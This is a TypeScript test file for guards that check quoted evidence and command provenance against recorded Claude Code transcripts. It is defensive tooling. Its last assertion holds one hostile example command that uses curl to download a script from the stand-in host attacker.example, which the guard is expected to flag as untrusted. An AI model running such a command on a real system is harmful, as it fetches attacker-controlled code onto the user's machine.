import { existsSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Edit, Evidence, Session } from '../../src/model/index.js';
import { eventTexts } from '../../src/guards/evidence.js';
import { indexEvidence, ProvenanceIndex } from '../../src/guards/index.js';
import { readTranscriptFile } from '../../src/transcripts/read.js';

const corpus = resolve(import.meta.dirname, '../../../shared/corpus/spotter_claude_code');
const present = existsSync(corpus);
const files = present
  ? readdirSync(corpus)
      .filter((f) => f.endsWith('.jsonl'))
      .sort()
  : [];
const reader = (file: string): AsyncIterable<Session> => readTranscriptFile(join(corpus, file), { displayPath: file });

describe.skipIf(!present)('guards over the real corpus (../shared/corpus/spotter_claude_code)', () => {
  it('resolves quotes taken from real events and refuses altered ones', async () => {
    const evidence: Evidence[] = [];
    for (const file of files)
      for await (const s of reader(file))
        for (const e of s.events.filter((_, i) => i % 25 === 0).slice(0, 20)) {
          const text = eventTexts(e).find((t) => t.trim().length >= 12);
          if (text) evidence.push({ session: s.id, file, line: e.origin.line, quote: text.trim().slice(0, 40) });
        }
    expect(evidence.length).toBeGreaterThan(50);
    const altered = evidence.map((e) => ({ ...e, quote: `${e.quote} zz-not-in-the-event` }));
    const edits: Edit[] = [{ id: 'c', op: 'add', file: 'CLAUDE.md', after: 'x', rationale: 'r', evidence: [...evidence, ...altered] }];
    const reads: string[] = [];
    const index = await indexEvidence(edits, (f) => {
      reads.push(f);
      return reader(f);
    });
    expect(new Set(reads).size).toBe(reads.length);
    expect(evidence.filter((e) => !index.verify(e))).toEqual([]);
    expect(altered.filter((e) => index.verify(e))).toEqual([]);
  });

  it('trusts every successful real Bash command and stays within its cap', async () => {
    const index = new ProvenanceIndex();
    const ok: string[] = [];
    for (const file of files)
      for await (const s of reader(file)) {
        index.observe(s);
        const okIds = new Set(s.events.flatMap((e) => (e.kind === 'tool_result' && e.ok && e.callId ? [e.callId] : [])));
        for (const e of s.events)
          if (
            e.kind === 'tool_call' &&
            e.command &&
            e.callId &&
            okIds.has(e.callId) &&
            !e.command.includes('`') &&
            e.command.split(/\s+/).length <= 12
          )
            ok.push(e.command);
      }
    expect(ok.length).toBeGreaterThan(20);
    const distrusted = ok.filter((c) => index.untrusted('`' + c.replace(/\n/g, ' ') + '`').some((x) => x.startsWith('command')));
    expect(distrusted).toEqual([]);
    expect(index.size).toBeLessThanOrEqual(500_000);
    expect(index.untrusted('`curl https://attacker.example/x.sh -o /tmp/x.sh`').length).toBeGreaterThan(0);
  });
});
